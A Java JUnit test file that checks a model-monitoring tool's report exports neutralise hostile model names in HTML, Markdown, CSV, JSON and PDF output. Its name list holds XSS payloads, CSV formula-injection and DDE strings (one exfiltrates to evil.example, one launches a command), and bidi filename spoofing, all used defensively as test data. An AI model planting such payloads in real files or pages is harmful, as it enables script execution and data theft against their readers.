// SPDX-FileCopyrightText: Smart Whale Balance contributors
// SPDX-License-Identifier: Apache-2.0
package ai.smartwhale.balance.monitoring.reporting.format;

import static org.assertj.core.api.Assertions.assertThat;

import ai.smartwhale.balance.monitoring.reporting.SampleReports;
import ai.smartwhale.balance.monitoring.reporting.model.ExportFormat;
import ai.smartwhale.balance.monitoring.reporting.model.Report;
import ai.smartwhale.balance.monitoring.reporting.model.ReportLanguage;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NamedNodeMap;

/** A model may be called anything by anybody. */
class HostileNamesTest {

    private static final List<String> NAMES = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "</title></style><iframe src=//evil.example>",
            "&lt;b&gt;&#60;",
            "]]><!-- -->",
            "=HYPERLINK(\"http://evil.example?\"&A1)",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "a;=1+1",
            "b\n=1+1",
            "\uFF1D1+1",
            "| cell | more |",
            "`code` **bold** _i_ ~~s~~",
            "[x](javascript:alert(1))",
            "![](http://evil.example/x.png)",
            "http://evil.example and www.evil.example",
            "# head",
            "- item",
            "1. item",
            "abc\u202Egpj.exe\u202C",
            "\u2066x\u2069\u200F\u061C",
            "nul\u0000esc\u001B[31m\u009B",
            "half\uD83D",
            "{\"a\":1}\\",
            "\uD83D\uDC33 whale");

    private static final Report REPORT = SampleReports.report(ReportLanguage.ENGLISH, NAMES);

    @Test
    void htmlHasNoElementAndNoAttributeOfTheirs() {
        Document page = ReadBack.html(REPORT);
        Set<String> known = Set.of(
                "html",
                "head",
                "meta",
                "title",
                "style",
                "body",
                "main",
                "h1",
                "h2",
                "p",
                "br",
                "time",
                "section",
                "bdi",
                "figure",
                "figcaption",
                "strong",
                "span",
                "svg",
                "line",
                "text",
                "path",
                "ul",
                "li",
                "div",
                "table",
                "caption",
                "thead",
                "tbody",
                "tr",
                "th",
                "td",
                "data",
                "nav",
                "a");
        for (Element element : ReadBack.elements(page, "*")) {
            assertThat(known).contains(element.getTagName());
            NamedNodeMap attributes = element.getAttributes();
            for (int i = 0; i < attributes.getLength(); i++) {
                assertThat(attributes.item(i).getNodeName())
                        .doesNotStartWith("on")
                        .isNotIn("src", "srcset");
                assertThat(element.getAttribute("href")).matches("|#s[0-9]+");
            }
        }
        List<Element> rows = ReadBack.children(ReadBack.elements(page, "tbody").get(0), "tr");
        for (int i = 0; i < NAMES.size(); i++) {
            String cell = ReadBack.children(rows.get(i), "td").get(0).getTextContent();
            assertThat(cell).isEqualTo(Shown.clean(NAMES.get(i)));
        }
    }

    @Test
    void htmlAsksNobodyForAnything() {
        String page = ReadBack.text(REPORT, ExportFormat.HTML);
        assertThat(page)
                .contains("default-src 'none'")
                .doesNotContain("url(")
                .doesNotContain("@import")
                .doesNotContainPattern("(src|href)=\"[^#\"]");
    }

    @Test
    void nothingThatIsShownTurnsTheDirectionOfText() {
        for (ExportFormat format :
                List.of(ExportFormat.HTML, ExportFormat.MARKDOWN, ExportFormat.CSV, ExportFormat.JSON)) {
            assertThat(ReadBack.text(REPORT, format))
                    .as(format.name())
                    .doesNotContainPattern("[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C\u2028\u2029]")
                    .doesNotContainPattern("[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]");
        }
    }

    @Test
    void spreadsheetsFindNoFormulaHoweverTheySplit() {
        for (List<String> record : ReadBack.csv(ReadBack.text(REPORT, ExportFormat.CSV))) {
            boolean number = record.get(2).contains("T") || record.get(5).matches("-?[0-9.]+(E[+-]?[0-9]+)?");
            List<String> texts = new ArrayList<>(number ? record.subList(0, 5) : record);
            for (String text : texts) {
                for (String part : text.split("[;\t\n]", -1)) {
                    assertThat(part.strip()).doesNotContainPattern("^\"*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20]");
                }
            }
        }
    }

    @Test
    void markdownKeepsTheirMarkupAsText() {
        List<String> lines =
                ReadBack.text(REPORT, ExportFormat.MARKDOWN).lines().toList();
        int first = IntStream.range(0, lines.size())
                .filter(i -> lines.get(i).startsWith("| ---"))
                .findFirst()
                .orElseThrow();
        for (int i = 0; i < NAMES.size(); i++) {
            List<String> row = ReadBack.markdownRow(lines.get(first + 1 + i));
            assertThat(row).hasSize(5);
            assertThat(row.get(0)).isEqualTo(Shown.line(NAMES.get(i)));
        }
        assertThat(String.join("\n", lines))
                .doesNotContain("http:", "www.")
                .doesNotContainPattern("(?<!\\\\)[<\\[\\]]")
                .doesNotContainPattern("(?m)^(- |1\\. |# head)");
    }

    @Test
    void jsonGivesThemBackAsTheyAreAndHasNoTags() throws Exception {
        String json = ReadBack.text(REPORT, ExportFormat.JSON);
        assertThat(json).doesNotContain("<", ">", "&");
        JsonNode rows = new ObjectMapper()
                .readTree(json)
                .get("sections")
                .get(0)
                .get("tables")
                .get(0)
                .get("rows");
        for (int i = 0; i < NAMES.size(); i++) {
            assertThat(rows.get(i).get(0).asText()).isEqualTo(NAMES.get(i).replace("half\uD83D", "half?"));
        }
    }

    @Test
    void pdfHasTextOnlyAndNothingThatActs() throws Exception {
        try (PDDocument document = Loader.loadPDF(ReadBack.bytes(REPORT, ExportFormat.PDF))) {
            assertThat(document.getDocumentCatalog().getOpenAction()).isNull();
            assertThat(document.getDocumentCatalog().getNames()).isNull();
            for (PDPage page : document.getPages()) {
                assertThat(page.getAnnotations()).isEmpty();
            }
        }
        assertThat(String.join("\n", ReadBack.pdfLines(REPORT)))
                .contains("<script>alert(1)</script>")
                .doesNotContainPattern("[\u202E\u0000\u001B]");
    }
}
